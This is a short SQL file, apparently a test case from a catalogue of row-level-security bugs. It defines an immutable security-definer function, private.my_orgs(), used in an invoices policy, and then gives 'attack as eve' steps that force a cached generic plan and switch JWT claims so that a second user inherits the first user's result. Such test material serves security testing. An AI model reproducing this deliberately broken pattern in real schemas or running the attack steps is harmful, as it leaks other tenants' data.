-- story: a plan keeps the first caller's answer
-- object: private.my_orgs()
-- severity: critical
-- broken
create function private.my_orgs() returns uuid[] language sql immutable security definer set search_path = pg_catalog, pg_temp
  as $$ select coalesce(array_agg(m.org_id), '{}') from public.org_members m where m.user_id = auth.uid() $$;
alter policy inv_read on public.invoices using (org_id = any (private.my_orgs()))
-- attack as eve
deallocate all;
set local plan_cache_mode = force_generic_plan;
select set_config('request.jwt.claims', '{"sub": "00000000-0000-4000-8000-0000000000b1"}', true);
prepare invoices_of_caller as select count(*) > 0 from public.invoices;
execute invoices_of_caller;
select set_config('request.jwt.claims', '{"sub": "00000000-0000-4000-8000-0000000000e1"}', true);
execute invoices_of_caller
